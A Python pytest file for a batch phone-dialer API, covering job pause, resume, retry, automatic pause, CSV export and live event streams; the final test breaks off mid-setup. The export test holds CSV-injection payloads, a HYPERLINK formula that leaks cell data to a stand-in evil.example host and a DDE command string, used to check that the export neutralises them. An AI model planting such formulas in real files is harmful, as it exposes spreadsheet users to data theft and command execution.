"""Job controls through the HTTP API: pause, resume, retry, automatic pause, export, live events."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import ClientResponse, web
from structlog.testing import capture_logs

from api import controls
from api import keys as appkeys
from dialer import export, keys
from dialer.service import ServiceError
from storage.connection import StorageUnavailable
from storage.rows import CallFilter, CallRow
from storage.store import Store
from tests.conftest import ORG, Running, StartApp, make_config, wait_until

CONTROLS = ("pause", "resume", "retry")


def phones(n: int, start: int = 101, prefix: str = "+1202555") -> list[dict[str, Any]]:
    return [{"phone": f"{prefix}{start + i:04d}"} for i in range(n)]


async def post(running: Running, path: str, body: Any = None, key: str | None = None) -> Any:
    resp = await running.client.post(path, json=body, headers=running.headers(key))
    return resp.status, await resp.json()


async def breakdown_is(running: Running, job_id: str, **expected: int) -> bool:
    counts = (await running.detail(job_id))["statusBreakdown"]
    return all(counts[status] == n for status, n in expected.items())


async def simulated(
    start_app: StartApp,
    tmp_path: Path,
    outcomes: dict[str, str] | None = None,
    engine: dict[str, Any] | None = None,
    **settings: Any,
) -> Running:
    """An app whose numbers starting with a prefix of `outcomes` end in that outcome (the rest
    are answered), with other simulated-provider `settings` (call_seconds...)."""
    rules = [{"prefix": prefix, "outcome": o} for prefix, o in (outcomes or {}).items()]
    config = make_config(
        tmp_path, engine=engine or {}, telephony={"simulated": {**settings, "rules": rules}}
    )
    return await start_app(config)


async def slow_calls(start_app: StartApp, tmp_path: Path) -> Running:
    """An app whose answered calls last 60 s of fake time."""
    return await simulated(start_app, tmp_path, call_seconds=60)


# ----------------------------------------------------------------- pause / resume


async def test_paused_job_dials_no_one_and_live_calls_are_recorded(
    start_app: StartApp, tmp_path: Path
) -> None:
    """Pausing stops new dials; live calls finish and are recorded; resume dials the rest."""
    running = await slow_calls(start_app, tmp_path)
    job_id = (await running.create_json(phones(5), concurrentCallLimit=2))["batchJobId"]
    await wait_until(lambda: calls_in_progress(running, job_id, 2))

    status, body = await post(running, f"/batch/jobs/{job_id}/pause", {"reason": "agent update"})
    assert status == 200, body
    assert (body["status"], body["pauseReason"]) == ("paused", "agent update")
    await running.clock.advance(60)
    await wait_until(lambda: breakdown_is(running, job_id, completed=2, dialing=0))
    await wait_until(lambda: _engine_idle(running))
    detail = await running.detail(job_id)
    assert detail["status"] == "paused"
    assert detail["pauseReason"] == "agent update"
    assert detail["statusBreakdown"]["pending"] == 3
    assert running.engine.live_calls(job_id) == 0

    status, body = await post(running, f"/batch/jobs/{job_id}/resume")
    assert (status, body["status"], body["pauseReason"]) == (200, "running", None)
    await wait_until(lambda: calls_in_progress(running, job_id, 2))
    for _ in range(2):
        await running.clock.advance(60)
        await wait_until(lambda: _engine_idle(running))
    detail = await running.wait_status(job_id, "completed")
    assert detail["statusBreakdown"]["completed"] == 5


async def _engine_idle(running: Running) -> bool:
    return running.engine.idle.is_set()


async def calls_in_progress(running: Running, job_id: str, n: int) -> bool:
    """n contacts dialing, and their calls are waiting on the fake clock (safe to advance)."""
    return (
        await breakdown_is(running, job_id, dialing=n)
        and running.engine.idle.is_set()
        and running.clock.sleeping >= n
    )


async def test_pause_and_resume_are_idempotent(start_app: StartApp, tmp_path: Path) -> None:
    """Pausing a paused job keeps its reason; resuming a running job is a no-op; both 200."""
    running = await slow_calls(start_app, tmp_path)
    job_id = (await running.create_json(phones(3)))["batchJobId"]
    await running.wait_status(job_id, "running")
    assert (await post(running, f"/batch/jobs/{job_id}/pause"))[1]["pauseReason"] == (
        "Paused by operator"
    )
    status, body = await post(running, f"/batch/jobs/{job_id}/pause", {"reason": "other"})
    assert (status, body["status"], body["pauseReason"]) == (200, "paused", "Paused by operator")
    assert (await post(running, f"/batch/jobs/{job_id}/resume"))[1]["status"] == "running"
    status, body = await post(running, f"/batch/jobs/{job_id}/resume")
    assert (status, body["status"]) == (200, "running")


async def test_paused_is_a_status_in_list_and_detail(running: Running) -> None:
    """A paused job is listed under status=paused and shows paused with its reason in detail."""
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    other = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    await post(running, f"/batch/jobs/{job_id}/pause", {"reason": "holiday"})
    resp = await running.client.get(
        "/batch/jobs", params={"organizationId": ORG, "status": "paused"}, headers=running.headers()
    )
    listed = await resp.json()
    assert [j["id"] for j in listed["batchJobs"]] == [job_id]
    assert listed["batchJobs"][0]["pauseReason"] == "holiday"
    assert (await running.detail(other))["pauseReason"] is None


async def test_resume_of_a_job_paused_before_its_start_waits_for_the_schedule(
    running: Running,
) -> None:
    """A scheduled job paused before its start goes back to scheduled, and starts on time."""
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-01-01T01:00:00Z"))[
        "batchJobId"
    ]
    await post(running, f"/batch/jobs/{job_id}/pause")
    await running.clock.advance(7200)
    await wait_until(lambda: _engine_idle(running))
    assert (await running.detail(job_id))["status"] == "paused"
    _, body = await post(running, f"/batch/jobs/{job_id}/resume")
    assert body["status"] == "pending"  # its start time has passed: it starts now
    await running.wait_status(job_id, "completed")

    later = (await running.create_json(phones(1, 201), scheduledStartTime="2026-01-02T00:00:00Z"))[
        "batchJobId"
    ]
    await post(running, f"/batch/jobs/{later}/pause")
    _, body = await post(running, f"/batch/jobs/{later}/resume")
    assert body["status"] == "scheduled"


async def test_small_bodied_routes_refuse_a_body_past_64_kb(running: Running) -> None:
    """A job control and a webhook endpoint take a few small fields: 65 KB of (valid) JSON is
    413 payload_too_large, read no further, and changes nothing."""
    job_id = (await running.create_json([{"phone": "+12025550101"}]))["batchJobId"]
    padded = b"{" + b" " * (65 * 1024) + b"}"
    for path in (f"/batch/jobs/{job_id}/pause", "/webhooks/endpoints"):
        resp = await running.client.post(
            path, data=padded, headers={**running.headers(), "Content-Type": "application/json"}
        )
        answer = await resp.json()
        assert (resp.status, answer["code"]) == (413, "payload_too_large"), (path, answer)
    assert (await running.detail(job_id))["status"] != "paused"
    endpoints = await (
        await running.client.get("/webhooks/endpoints", headers=running.headers())
    ).json()
    assert endpoints["endpoints"] == []


async def test_controls_on_jobs_in_the_wrong_state_are_400(running: Running) -> None:
    """Finished jobs cannot be paused or resumed, cancelled or unstarted ones not retried."""
    done = (await running.create_json(phones(1)))["batchJobId"]
    await running.wait_status(done, "completed")
    assert await post(running, f"/batch/jobs/{done}/pause") == (400, _error("job_not_pausable"))
    assert await post(running, f"/batch/jobs/{done}/resume") == (400, _error("job_not_resumable"))

    scheduled = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    assert await post(running, f"/batch/jobs/{scheduled}/retry") == (
        400,
        _error("job_not_retryable"),
    )
    await post(running, f"/batch/jobs/{scheduled}/cancel")
    assert await post(running, f"/batch/jobs/{scheduled}/retry") == (
        400,
        _error("job_not_retryable"),
    )


class _error(dict[str, Any]):
    """Matches a /batch error body with this code (any message)."""

    def __init__(self, code: str) -> None:
        super().__init__(code=code)

    def __eq__(self, other: object) -> bool:
        return (
            isinstance(other, dict)
            and other.get("success") is False
            and other.get("code") == self["code"]
            and isinstance(other.get("error"), str)
        )

    __hash__ = None  # type: ignore[assignment]


@pytest.mark.parametrize("action", [*CONTROLS, "export", "events"])
async def test_controls_answer_404_for_unknown_and_foreign_jobs(
    running: Running, action: str
) -> None:
    """Every control answers 404 job_not_found for an unknown job and another org's job."""
    foreign = (
        await running.create_json(phones(1), key=running.other_key, fromPhoneNumberId="num_b")
    )["batchJobId"]
    for job_id in ("batch_nope", foreign):
        path = f"/batch/jobs/{job_id}/{action}"
        if action in CONTROLS:
            resp = await running.client.post(path, headers=running.headers())
        else:
            resp = await running.client.get(path, headers=running.headers())
        assert (resp.status, (await resp.json())["code"]) == (404, "job_not_found")


async def test_control_bodies_are_validated(running: Running) -> None:
    """Unknown fields, bad types and unknown statuses are 400 with a code, and change nothing."""
    job_id = (await running.create_json(phones(1)))["batchJobId"]
    await running.wait_status(job_id, "completed")
    for path, body, code in (
        ("pause", {"why": "x"}, "validation_error"),
        ("pause", {"reason": 5}, "validation_error"),
        ("retry", {"statuses": "busy"}, "validation_error"),
        ("retry", {"statuses": []}, "validation_error"),
        ("retry", {"extraAttempts": 0}, "validation_error"),
        ("retry", {"statuses": ["completed"]}, "invalid_retry_status"),
        ("retry", {"statuses": ["busy", "bogus"]}, "invalid_retry_status"),
        ("retry", [1], "validation_error"),
    ):
        assert await post(running, f"/batch/jobs/{job_id}/{path}", body) == (400, _error(code))
    resp = await running.client.post(
        f"/batch/jobs/{job_id}/retry", data=b"{not json", headers=running.headers()
    )
    assert (resp.status, (await resp.json())["code"]) == (400, "invalid_json")
    detail = await running.detail(job_id)
    assert (detail["status"], detail["retryRounds"]) == ("completed", 0)


# ----------------------------------------------------------------- retry


async def test_retry_requeues_failed_contacts_and_keeps_their_history(
    start_app: StartApp, tmp_path: Path
) -> None:
    """Retry re-queues busy contacts for one more attempt; the job runs again; history is kept."""
    running = await simulated(
        start_app, tmp_path, {"+1202555010": "busy", "+1202555020": "invalid_number"}
    )
    contacts = phones(2, 101) + phones(1, 201) + phones(1, 301)
    job_id = (await running.create_json(contacts, maxAttempts=1))["batchJobId"]
    await running.wait_status(job_id, "completed")

    status, body = await post(running, f"/batch/jobs/{job_id}/retry")
    assert status == 200, body
    assert body["contactsRequeued"] == 2  # busy is retryable; invalid_number is not
    assert body["statuses"] == ["no_answer", "busy", "timeout", "carrier_error"]
    assert (body["status"], body["retryRounds"]) == ("running", 1)
    detail = await running.wait_status(job_id, "completed")
    assert detail["statusBreakdown"]["busy"] == 2
    busy = [c for c in detail["contacts"] if c["status"] == "busy"]
    assert {(c["attemptCount"], c["maxAttempts"]) for c in busy} == {(2, 2)}
    attempts = await running.store.list_attempts(int(busy[0]["id"].removeprefix("contact_")))
    assert [(a.attempt_no, a.outcome) for a in attempts] == [(1, "busy"), (2, "busy")]

    status, body = await post(
        running, f"/batch/jobs/{job_id}/retry", {"statuses": ["invalid_number"], "extraAttempts": 2}
    )
    assert (status, body["contactsRequeued"], body["retryRounds"]) == (200, 1, 2)
    detail = await running.wait_status(job_id, "completed")
    invalid = [c for c in detail["contacts"] if c["status"] == "invalid_number"]
    assert [(c["attemptCount"], c["maxAttempts"]) for c in invalid] == [(2, 3)]

    # Nothing left in those statuses: nothing to do, and the finished job stays as it is.
    _, body = await post(running, f"/batch/jobs/{job_id}/retry", {"statuses": ["failed"]})
    assert (body["contactsRequeued"], body["status"], body["retryRounds"]) == (0, "completed", 2)


async def test_retry_of_an_expired_job_is_refused_and_keeps_the_outcomes(
    start_app: StartApp, tmp_path: Path
) -> None:
    """Once the job's expiresAt has passed, retry is 400 job_expired and every contact keeps
    the status and SIP code its calls ended with (they were overwritten cancelled/expired)."""
    running = await simulated(start_app, tmp_path, {"+1202555010": "busy"})
    job_id = (
        await running.create_json(phones(2), maxAttempts=1, expiresAt="2026-01-01T00:10:00Z")
    )["batchJobId"]
    before = await running.wait_status(job_id, "completed")
    assert before["statusBreakdown"]["busy"] == 2
    await running.clock.advance(600)  # expiresAt is now
    for body in (None, {"statuses": ["busy"], "extraAttempts": 2}):
        assert await post(running, f"/batch/jobs/{job_id}/retry", body) == (
            400,
            _error("job_expired"),
        )
    await running.clock.advance(60)
    await wait_until(lambda: _engine_idle(running))
    after = await running.detail(job_id)
    assert (after["status"], after["retryRounds"], after["completedAt"]) == (
        "completed",
        0,
        before["completedAt"],
    )
    assert [
        (c["status"], c["errorCode"], c["failureReason"], c["maxAttempts"])
        for c in after["contacts"]
    ] == [
        (c["status"], c["errorCode"], c["failureReason"], c["maxAttempts"])
        for c in before["contacts"]
    ]


async def test_retry_of_a_paused_job_requeues_but_keeps_it_paused(
    start_app: StartApp, tmp_path: Path
) -> None:
    """Retrying a paused job re-queues its failed contacts; they are dialed once it resumes."""
    running = await simulated(start_app, tmp_path, {"+1202555010": "no_answer"}, call_seconds=60)
    contacts = phones(1, 101) + phones(1, 201)
    job_id = (await running.create_json(contacts, maxAttempts=1, concurrentCallLimit=2))[
        "batchJobId"
    ]
    await wait_until(lambda: breakdown_is(running, job_id, no_answer=1))
    await wait_until(lambda: calls_in_progress(running, job_id, 1))
    await post(running, f"/batch/jobs/{job_id}/pause")
    status, body = await post(running, f"/batch/jobs/{job_id}/retry")
    assert (status, body["contactsRequeued"], body["status"]) == (200, 1, "paused")
    assert body["pauseReason"] == "Paused by operator"
    await running.clock.advance(60)
    await wait_until(lambda: breakdown_is(running, job_id, completed=1, queued=1))
    await wait_until(lambda: _engine_idle(running))
    assert (await running.detail(job_id))["status"] == "paused"

    await post(running, f"/batch/jobs/{job_id}/resume")
    detail = await running.wait_status(job_id, "completed")
    assert (detail["statusBreakdown"]["no_answer"], detail["retryRounds"]) == (1, 1)


# ----------------------------------------------------------------- automatic pause


async def test_job_pauses_itself_when_most_recent_attempts_fail_at_the_carrier(
    start_app: StartApp, tmp_path: Path
) -> None:
    """Ten carrier errors in a row pause the job with a pauseReason; the rest are not dialed."""
    running = await simulated(start_app, tmp_path, {"+1202555": "carrier_error"})
    job_id = (await running.create_json(phones(30), concurrentCallLimit=1))["batchJobId"]
    detail = await running.wait_status(job_id, "paused")
    assert detail["pauseReason"].startswith("Automatic pause: 10 of the last 10 attempts")
    await wait_until(lambda: _engine_idle(running))
    detail = await running.detail(job_id)
    assert detail["status"] == "paused"
    assert detail["statusBreakdown"]["pending"] == 20
    assert detail["statusBreakdown"]["queued"] == 10  # carrier_error is retried later

    # Resumed, it starts afresh: ten more failures before it pauses again.
    _, body = await post(running, f"/batch/jobs/{job_id}/resume")
    assert body["status"] == "running"
    detail = await running.wait_status(job_id, "paused")
    assert detail["statusBreakdown"]["pending"] == 10


async def test_answered_calls_keep_a_job_with_some_carrier_errors_running(
    start_app: StartApp, tmp_path: Path
) -> None:
    """Fewer than half of the recent attempts failing at the carrier does not pause the job."""
    running = await simulated(start_app, tmp_path, {"+1202555020": "carrier_error"})
    answered, failing = phones(11, 101), phones(9, 201)
    # Answered, then alternating: at no point are half of the attempts carrier errors.
    contacts = answered[:1] + [c for pair in zip(answered[1:], failing, strict=False) for c in pair]
    job_id = (await running.create_json(contacts, concurrentCallLimit=1, maxAttempts=1))[
        "batchJobId"
    ]
    detail = await running.wait_status(job_id, "completed", "paused")
    assert detail["status"] == "completed"
    assert detail["statusBreakdown"]["carrier_error"] == 9


async def test_auto_pause_can_be_turned_off(start_app: StartApp, tmp_path: Path) -> None:
    """With auto_pause_min_attempts = 0 a job of carrier errors runs to completion."""
    running = await simulated(
        start_app, tmp_path, {"+1202555": "carrier_error"}, {"auto_pause_min_attempts": 0}
    )
    job_id = (await running.create_json(phones(12), maxAttempts=1))["batchJobId"]
    detail = await running.wait_status(job_id, "completed", "paused")
    assert (detail["status"], detail["statusBreakdown"]["carrier_error"]) == ("completed", 12)


# ----------------------------------------------------------------- export


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_export_has_every_contact_with_outcome_and_custom_fields(
    start_app: StartApp, tmp_path: Path
) -> None:
    """The CSV has one row per contact: final status, attempts, SIP code, reason, custom fields."""
    running = await simulated(start_app, tmp_path, {"+1202555020": "busy"}, call_seconds=30)
    contacts = [
        {"phone": "+12025550101", "name": "Ada", "plan": "pro", "status": "vip"},
        {"phone": "+12025550201", "name": "Bob", "notes": {"tier": 2}},
    ]
    job_id = (await running.create_json(contacts, maxAttempts=1))["batchJobId"]
    await wait_until(lambda: breakdown_is(running, job_id, busy=1))
    await wait_until(lambda: calls_in_progress(running, job_id, 1))
    await running.clock.advance(30)
    await running.wait_status(job_id, "completed")

    resp = await running.client.get(f"/batch/jobs/{job_id}/export", headers=running.headers())
    assert resp.status == 200
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert resp.headers["Content-Disposition"] == f'attachment; filename="{job_id}.csv"'
    assert resp.headers["Transfer-Encoding"] == "chunked"
    text = await resp.text()
    header = text.splitlines()[0].split(",")
    assert header == [*export.COLUMNS, "name", "plan", "data.status", "notes"]
    rows = parse_csv(text)
    assert len(rows) == 2
    ada, bob = rows
    assert ada["phone"] == "'+12025550101"  # a leading + is quoted (CSV injection rule)
    assert (ada["status"], ada["attempts"], ada["max_attempts"]) == ("completed", "1", "1")
    assert (ada["duration_seconds"], ada["sip_code"], ada["reason"]) == ("30", "", "")
    assert ada["last_call_started_at"] == "2026-01-01T00:00:00Z"
    assert ada["last_call_ended_at"] == ada["completed_at"] == "2026-01-01T00:00:30Z"
    assert (ada["name"], ada["plan"], ada["data.status"], ada["notes"]) == ("Ada", "pro", "vip", "")
    assert (bob["status"], bob["sip_code"], bob["reason"]) == ("busy", "486", "simulated busy")
    assert (bob["name"], bob["plan"], bob["notes"]) == ("Bob", "", '{"tier": 2}')
    assert bob["contact_id"].startswith("contact_")


async def test_export_reads_contacts_page_by_page(
    running: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export never asks the store for more than one page of contacts at a time."""
    monkeypatch.setattr(export, "PAGE_SIZE", 7)
    pages: list[int] = []
    real = Store.list_calls

    async def spy(
        self: Store, job_id: str, where: CallFilter, limit: int, offset: int = 0, **kw: Any
    ) -> tuple[list[CallRow], int | None]:
        found = await real(self, job_id, where, limit, offset, **kw)
        pages.append(len(found[0]))
        assert limit == 7
        return found

    monkeypatch.setattr(Store, "list_calls", spy)
    job_id = (await running.create_json(phones(20)))["batchJobId"]
    await running.wait_status(job_id, "completed")
    resp = await running.client.get(f"/batch/jobs/{job_id}/export", headers=running.headers())
    rows = parse_csv(await resp.text())
    assert [r["phone"] for r in rows] == ["'" + c["phone"] for c in phones(20)]
    assert pages == [7, 7, 6]


async def test_export_neutralises_formulas_header_included(running: Running) -> None:
    """Cells and headers that start like formulas come out prefixed with ', whitespace kept."""
    hostile = {
        '=HYPERLINK("http://evil.example/?x="&A1;"click")': "+cmd|' /C calc'!A0",
        "plain": "@SUM(1+1)",
        "tabbed": "\t=cmd",
        "spaced": "  =1+1",
        "dash": "-2",
        "cr": "\r=1",
        "safe": "a=b",
    }
    job_id = (await running.create_json([{"phone": "+12025550101", **hostile}]))["batchJobId"]
    resp = await running.client.get(f"/batch/jobs/{job_id}/export", headers=running.headers())
    rows = list(csv.reader(io.StringIO(await resp.text())))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert '\'=HYPERLINK("http://evil.example/?x="&A1;"click")' in header
    assert cells['\'=HYPERLINK("http://evil.example/?x="&A1;"click")'] == "'+cmd|' /C calc'!A0"
    assert cells["plain"] == "'@SUM(1+1)"
    assert cells["tabbed"] == "'\t=cmd"
    assert cells["spaced"] == "'  =1+1"
    assert cells["dash"] == "'-2"
    assert cells["cr"] == "'\r=1"
    assert cells["safe"] == "a=b"
    assert cells["phone"] == "'+12025550101"
    for line in (header, row):
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in line)


async def test_export_of_ten_thousand_contacts_streams_every_row(running: Running) -> None:
    """A 10,000-contact job exports 10,000 rows, in upload order, as a chunked stream."""
    contacts = [{"phone": f"+1212555{i:04d}", "ref": str(i)} for i in range(10_000)]
    job_id = (await running.create_json(contacts, scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    resp = await running.client.get(f"/batch/jobs/{job_id}/export", headers=running.headers())
    assert resp.headers["Transfer-Encoding"] == "chunked"
    chunks = 0
    lines = 0
    async for chunk in resp.content.iter_any():
        chunks += 1
        lines += chunk.count(b"\r\n")
    assert lines == 10_001
    assert chunks > 1


# ----------------------------------------------------------------- live events


async def read_events(resp: ClientResponse) -> AsyncIterator[tuple[str, dict[str, Any]]]:
    """Parse a text/event-stream body into (event, data) pairs until the server closes it."""
    event, data = "message", ""
    async for raw in resp.content:
        line = raw.decode().rstrip("\n")
        if line.startswith("event: "):
            event = line.removeprefix("event: ")
        elif line.startswith("data: "):
            data = line.removeprefix("data: ")
        elif line == "" and data:
            yield event, json.loads(data)
            event, data = "message", ""


async def drive_clock(running: Running) -> None:
    """Whenever the engine is parked, move the fake clock to the next deadline (until cancelled)."""
    while True:
        await wait_until(lambda: _engine_idle(running))
        deadline = running.clock.next_deadline
        if deadline is None:
            await asyncio.sleep(0.005)
        else:
            await running.clock.advance(deadline - running.clock.now())


async def stop(task: asyncio.Task[None]) -> None:
    task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await task


async def test_events_follow_a_job_from_start_to_finish(
    start_app: StartApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Progress snapshots arrive as counts change, then an end event, then the stream closes."""
    monkeypatch.setattr(controls, "EVENT_MIN_INTERVAL_SECONDS", 0.0)
    running = await slow_calls(start_app, tmp_path)
    created = await running.create_json(
        phones(4), concurrentCallLimit=2, scheduledStartTime="2026-01-01T00:01:00Z"
    )
    job_id = created["batchJobId"]
    resp = await running.client.get(f"/batch/jobs/{job_id}/events", headers=running.headers())
    assert resp.status == 200
    assert resp.headers["Content-Type"] == "text/event-stream"
    seen: list[tuple[str, dict[str, Any]]] = []
    driver: asyncio.Task[None] | None = None
    try:
        async for event, data in read_events(resp):
            seen.append((event, data))
            if driver is None:  # the first snapshot is in: now let the job run
                driver = asyncio.create_task(drive_clock(running))
    finally:
        if driver is not None:
            await stop(driver)
    assert resp.content.at_eof()
    assert seen[0][0] == "progress" and seen[0][1]["status"] == "scheduled"
    assert [e for e, _ in seen[:-1]] == ["progress"] * (len(seen) - 1)
    final_event, final = seen[-1]
    assert final_event == "end"
    assert (final["status"], final["successfulCalls"], final["contactsProcessed"]) == (
        "completed",
        4,
        4,
    )
    assert final["completedAt"] == "2026-01-01T00:03:00Z"
    for _, data in seen:
        assert sum(data["statusBreakdown"].values()) == data["totalContacts"] == 4
    assert any(d["status"] == "running" and d["statusBreakdown"]["dialing"] == 2 for _, d in seen)
    assert len({json.dumps(d, sort_keys=True) for _, d in seen}) == len(seen)  # no repeats


async def test_events_report_pause_and_cancel(
    running: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stream shows the job paused with its reason, then cancelled as its end event."""
    monkeypatch.setattr(controls, "EVENT_MIN_INTERVAL_SECONDS", 0.0)
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    resp = await running.client.get(f"/batch/jobs/{job_id}/events", headers=running.headers())
    statuses: list[tuple[str, str | None]] = []
    async for _, data in read_events(resp):
        statuses.append((data["status"], data["pauseReason"]))
        if len(statuses) == 1:
            await post(running, f"/batch/jobs/{job_id}/pause", {"reason": "lunch"})
        elif data["status"] == "paused":
            await post(running, f"/batch/jobs/{job_id}/cancel")
    assert statuses == [("scheduled", None), ("paused", "lunch"), ("cancelled", None)]


async def test_events_of_a_finished_job_are_one_end_event(running: Running) -> None:
    """Following a job that already ended gives its final snapshot once, then the stream closes."""
    job_id = (await running.create_json(phones(2)))["batchJobId"]
    await running.wait_status(job_id, "completed")
    resp = await running.client.get(f"/batch/jobs/{job_id}/events", headers=running.headers())
    seen = [event async for event in read_events(resp)]
    assert [e for e, _ in seen] == ["end"]
    assert seen[0][1]["successfulCalls"] == 2


async def test_events_are_paced(
    start_app: StartApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Changes closer together than the minimum interval wait for it (and are folded into one)."""
    waits: list[float] = []

    async def record(seconds: float) -> None:
        waits.append(seconds)

    monkeypatch.setattr(controls, "pace", record)
    running = await slow_calls(start_app, tmp_path)
    job_id = (await running.create_json(phones(6), concurrentCallLimit=2))["batchJobId"]
    resp = await running.client.get(f"/batch/jobs/{job_id}/events", headers=running.headers())
    driver = asyncio.create_task(drive_clock(running))
    try:
        seen = [event async for event in read_events(resp)]
    finally:
        await stop(driver)
    assert seen[-1][0] == "end"
    assert len(waits) >= len(seen) - 1
    assert all(w <= controls.EVENT_MIN_INTERVAL_SECONDS for w in waits)
    assert any(w > 0 for w in waits)


async def test_live_progress_streams_are_capped_per_organization_and_in_all(
    start_app: StartApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One organization cannot hold every connection with streams it never reads: past its own
    cap, or the service's, a stream is 429 too_many_streams; closing one makes room again."""
    monkeypatch.setattr(controls, "EVENT_CHECK_SECONDS", 0.01)  # (wall-clock pacing)
    config = make_config(
        tmp_path, server={"max_event_streams_per_organization": 2, "max_event_streams": 3}
    )
    running = await start_app(config)
    later = "2026-06-01T09:00:00Z"  # scheduled: its streams stay open
    mine = (await running.create_json(phones(1), scheduledStartTime=later))["batchJobId"]
    theirs = (
        await running.create_json(
            phones(1), key=running.other_key, scheduledStartTime=later, fromPhoneNumberId="num_b"
        )
    )["batchJobId"]

    async def open_stream(job_id: str, key: str | None = None) -> ClientResponse:
        return await running.client.get(
            f"/batch/jobs/{job_id}/events", headers=running.headers(key)
        )

    held = [await open_stream(mine), await open_stream(mine)]
    assert [r.status for r in held] == [200, 200]
    refused = await open_stream(mine)
    assert refused.status == 429
    assert (await refused.json())["code"] == "too_many_streams"
    other = await open_stream(theirs, running.other_key)  # another organization: its own cap
    assert other.status == 200
    full = await open_stream(theirs, running.other_key)  # 3 open: the service's cap
    assert full.status == 429
    assert (await full.json())["code"] == "too_many_streams"
    assert (await running.client.get("/healthz")).status == 200
    held.pop().close()

    async def room_again() -> bool:
        return sum(running.app[controls.OPEN_STREAMS].values()) == 2

    await wait_until(room_again)
    again = await open_stream(mine)
    assert again.status == 200
    for resp in [*held, other, again]:
        resp.close()


async def test_a_stream_ends_when_its_key_is_revoked(running: Running) -> None:
    """A revoked key stops working on the stream it has open too: at its next event."""
    running.app[appkeys.KEY_CACHE].ttl_seconds = 0  # (the cache's second, not waited for)
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    row, key = await keys.create_key(running.store, running.clock, ORG)
    resp = await running.client.get(f"/batch/jobs/{job_id}/events", headers=running.headers(key))
    events = read_events(resp)
    first = await anext(events)
    assert first[1]["status"] == "scheduled"
    assert await running.store.revoke_api_key(row.id, running.clock.now())
    await post(running, f"/batch/jobs/{job_id}/pause", {"reason": "lunch"})  # another key
    rest = [event async for event in events]
    assert rest == []  # ended without sending the change
    assert resp.content.at_eof()


async def test_pauses_and_resumes_at_once_are_each_answered_as_documented(
    running: Running,
) -> None:
    """Pausing a paused job and resuming an active one are 200 no-ops, also when requests race:
    each is judged on the status its own write saw, never on one another request made since."""
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    answers: list[tuple[int, Any]] = []
    for _ in range(50):
        answers += await asyncio.gather(
            *(
                post(running, f"/batch/jobs/{job_id}/{action}")
                for action in ["pause", "resume"] * 10
            )
        )
    assert [a for a in answers if a[0] != 200] == []
    final = (await post(running, f"/batch/jobs/{job_id}/pause"))[1]
    assert final["status"] == "paused"


async def test_a_pause_is_judged_on_the_status_its_write_saw(running: Running) -> None:
    """A pause racing two other requests, one pausing the job before its write and one resuming
    it before the job is read back: a 200 no-op (pausing a paused job), not `400
    job_not_pausable` naming the status the resume made."""
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    store = running.store
    real_pause = store.pause_job

    async def raced(*args: Any, **kwargs: Any) -> Any:
        await real_pause(*args, **kwargs)  # another request's pause, just before this one's
        seen = await real_pause(*args, **kwargs)
        await store.resume_job(ORG, job_id, running.clock.now())  # and another's resume
        return seen

    store.pause_job = raced  # type: ignore[method-assign]
    status, body = await post(running, f"/batch/jobs/{job_id}/pause")
    assert status == 200, body
    assert body["status"] == "scheduled"  # the resume came after it


async def test_a_stream_whose_client_left_frees_its_place_without_waiting_for_a_write(
    start_app: StartApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A client that closes its stream is noticed at the next look (every EVENT_CHECK_SECONDS),
    not only at the next keep-alive 15 s later: a dashboard reconnecting gets its place back."""
    monkeypatch.setattr(controls, "EVENT_CHECK_SECONDS", 0.01)  # (wall-clock pacing)
    config = make_config(tmp_path, server={"max_event_streams_per_organization": 1})
    running = await start_app(config)
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    path = f"/batch/jobs/{job_id}/events"
    first = await running.client.get(path, headers=running.headers())
    assert first.status == 200
    assert (await running.client.get(path, headers=running.headers())).status == 429
    first.close()

    async def freed() -> bool:
        return not running.app[controls.OPEN_STREAMS]

    await wait_until(freed)
    again = await running.client.get(path, headers=running.headers())
    assert again.status == 200
    again.close()


async def test_a_stream_outlives_a_key_lookup_the_storage_cannot_answer(
    running: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The stream's look at its key during a storage fault does not end it (the key is not
    known to be revoked): it goes on, and shows the next change."""
    monkeypatch.setattr(controls, "EVENT_CHECK_SECONDS", 0.01)  # (wall-clock pacing)
    monkeypatch.setattr(controls, "EVENT_MIN_INTERVAL_SECONDS", 0.0)
    running.app[appkeys.KEY_CACHE].ttl_seconds = 0
    job_id = (await running.create_json(phones(1), scheduledStartTime="2026-06-01T09:00:00Z"))[
        "batchJobId"
    ]
    resp = await running.client.get(f"/batch/jobs/{job_id}/events", headers=running.headers())
    events = read_events(resp)
    assert (await anext(events))[1]["status"] == "scheduled"
    store = running.store
    real_find = store.find_api_key
    failed = 0

    async def failing(key_hash: str) -> Any:
        nonlocal failed
        failed += 1
        raise StorageUnavailable("disk I/O error")

    store.find_api_key = failing  # type: ignore[method-assign]

